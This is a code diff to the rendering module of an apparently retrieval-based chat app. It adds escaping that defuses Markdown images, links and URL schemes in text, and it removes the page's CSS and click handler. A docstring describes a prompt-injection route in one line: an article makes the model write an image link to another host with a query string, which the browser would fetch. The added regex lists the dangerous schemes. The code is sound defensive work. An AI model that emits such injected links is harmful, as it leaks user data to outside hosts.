@@ -11,7 +11,9 @@ import html
 import re
 from typing import Iterable, Optional, Sequence
 
-MARKER = re.compile(r"\[(\d+)\]")
+MARKER = re.compile(r"\[(\d+)\]")  # the one [n] form left after citations.clean_markers, in escaped text
+# Markdown image and link openers, URL schemes and "www." that a renderer would turn into a request.
+LINK_SYNTAX = re.compile(r"!\[|\]\(|\b(?:https?|ftp|file|data|javascript|mailto):|\bwww\.", re.IGNORECASE)
 TEMPLATE_CHARS = str.maketrans({"$": "&#36;", "{": "&#123;", "}": "&#125;", "`": "&#96;"})
 EMPTY_PANEL = ('<div class="sources-empty">Sources appear here. Each <b>[n]</b> in an answer links to '
                'the passage it cites, with the cited sentences highlighted.</div>')
@@ -22,8 +24,24 @@ CLOSEST_SHOWN = 3
 
 
 def escape(text: str) -> str:
-    """HTML-escaped text, also inert in JS templates and LaTeX: ``escape('<b>$1</b>') -> '&lt;b&gt;&#36;1&lt;/b&gt;'``."""
-    return html.escape(text or "", quote=True).translate(TEMPLATE_CHARS)
+    """HTML-escaped text, also inert in JS templates, LaTeX and Markdown: no image, link or bare URL survives.
+
+    Model output is rendered as Markdown, and an article can make the model write ``![](http://elsewhere/?q=…)``;
+    the browser would fetch it. ``escape('<b>$1</b>') -> '&lt;b&gt;&#36;1&lt;/b&gt;'``;
+    ``escape('![x](http://e.com)') -> '&#33;[x]&#40;http&#58;//e.com)'``
+    """
+    escaped = html.escape(text or "", quote=True).translate(TEMPLATE_CHARS)
+    return LINK_SYNTAX.sub(defuse, escaped)
+
+
+def defuse(match: re.Match) -> str:
+    """One LINK_SYNTAX match made inert by an entity: ``![`` -> ``&#33;[``, ``](`` -> ``]&#40;``, ``http:`` -> ``http&#58;``."""
+    token = match.group(0)
+    if token == "![":
+        return "&#33;["
+    if token == "](":
+        return "]&#40;"
+    return token[:-1] + ("&#58;" if token.endswith(":") else "&#46;")
 
 
 def source_id(turn: int, n: int) -> str:
@@ -269,67 +287,3 @@ def evaluation_markdown(markdown: str, folder: str = "") -> str:
     body = IMAGE_LINE.sub("", markdown).replace("<", "&lt;").rstrip()
     body = re.sub(r"\n{3,}", "\n\n", body)
     return body + (f"\n\n<small>Report files: <code>{html.escape(str(folder))}</code></small>" if folder else "")
-
-
-# The page's look: answer on the left, a scrolling sources panel on the right, readable highlights.
-CSS = """
-.app-header { display: flex; justify-content: space-between; align-items: flex-end; gap: 1rem; flex-wrap: wrap; }
-.app-header h1 { font-size: 1.6rem; font-weight: 700; margin: 0 0 0.2rem 0; }
-.app-header p { margin: 0; opacity: 0.75; }
-.model-pill { font-size: 0.82rem; padding: 0.3rem 0.75rem; border-radius: 999px; white-space: nowrap;
-  background: var(--background-fill-secondary); border: 1px solid var(--border-color-primary); }
-.docs-table { width: 100%; border-collapse: collapse; font-size: 0.92rem; border: none; }
-.docs-table th, .docs-table td { border: none; }
-.docs-table th { text-align: left; font-weight: 600; border-bottom: 2px solid var(--border-color-primary); padding: 0.45rem; }
-.docs-table td { border-bottom: 1px solid var(--border-color-primary); padding: 0.45rem; vertical-align: top; }
-.docs-table .doc-title { font-weight: 600; }
-.docs-table .doc-file { font-family: var(--font-mono); font-size: 0.82rem; word-break: break-all; }
-.docs-table .doc-chunks { text-align: right; }
-#chatbot a.cite { font-weight: 600; text-decoration: none; padding: 0 1px; border-radius: 3px; }
-#chatbot a.cite:hover { background: rgba(59, 130, 246, 0.15); }
-#chatbot a.cite.unsupported { color: #b45309; text-decoration: underline dotted; }
-#chatbot .answer-meta { font-size: 0.78rem; opacity: 0.65; margin-top: 0.3rem; }
-#chatbot details.searched { font-size: 0.85rem; margin-top: 0.4rem; }
-#chatbot details.searched summary { cursor: pointer; opacity: 0.75; }
-#sources { max-height: 640px; overflow-y: auto; padding-right: 4px; }
-.sources-empty, .sources-refused { opacity: 0.8; font-size: 0.92rem; padding: 0.5rem 0; }
-details.sources-turn { margin-bottom: 0.75rem; }
-details.sources-turn > summary { cursor: pointer; font-weight: 600; font-size: 0.9rem; margin-bottom: 0.5rem; }
-.source-card { border: 1px solid var(--border-color-primary); border-radius: 10px; padding: 0.7rem 0.85rem;
-  margin: 0 0 0.7rem 0; background: var(--background-fill-secondary); transition: box-shadow 0.3s, border-color 0.3s; }
-.source-card.focused { border-color: #3b82f6; box-shadow: 0 0 0 3px rgba(59, 130, 246, 0.35); }
-.source-card.unsupported { border-style: dashed; }
-.source-card header { display: flex; gap: 0.6rem; align-items: flex-start; margin-bottom: 0.4rem; }
-.source-num { flex: none; background: #3b82f6; color: white; border-radius: 999px; min-width: 1.6rem; height: 1.6rem;
-  display: inline-flex; align-items: center; justify-content: center; font-weight: 700; font-size: 0.85rem; }
-.source-title { font-weight: 600; line-height: 1.3; }
-.source-origin { font-size: 0.78rem; opacity: 0.7; word-break: break-all; }
-.source-flag { font-size: 0.82rem; color: #b45309; margin: 0.2rem 0 0.4rem 0; }
-.source-text { margin: 0; padding: 0 0 0 0.6rem; border-left: 3px solid var(--border-color-primary);
-  font-size: 0.9rem; line-height: 1.5; white-space: pre-wrap; }
-.source-text mark { background: #fde68a; color: #111827; padding: 0 2px; border-radius: 3px; }
-"""
-
-# A click on [n] in an answer opens that answer's sources, scrolls to source n and marks it.
-CLICK_TO_SOURCE = """
-() => {
-  document.addEventListener("click", (event) => {
-    const link = event.target.closest && event.target.closest('a[href^="#src-"]');
-    if (!link) return;
-    event.preventDefault();
-    event.stopPropagation();
-    const card = document.getElementById(link.getAttribute("href").slice(1));
-    if (!card) return;
-    const group = card.closest("details");
-    if (group) group.open = true;
-    document.querySelectorAll(".source-card.focused").forEach((el) => el.classList.remove("focused"));
-    card.classList.add("focused");
-    const panel = card.closest("#sources");  // scroll the panel, not the page, when the panel scrolls
-    if (panel && panel.scrollHeight > panel.clientHeight) {
-      panel.scrollTop += card.getBoundingClientRect().top - panel.getBoundingClientRect().top - 8;
-    }
-    const box = card.getBoundingClientRect();
-    if (box.top < 0 || box.top > window.innerHeight - 40) card.scrollIntoView({block: "nearest"});
-  }, true);
-}
-"""
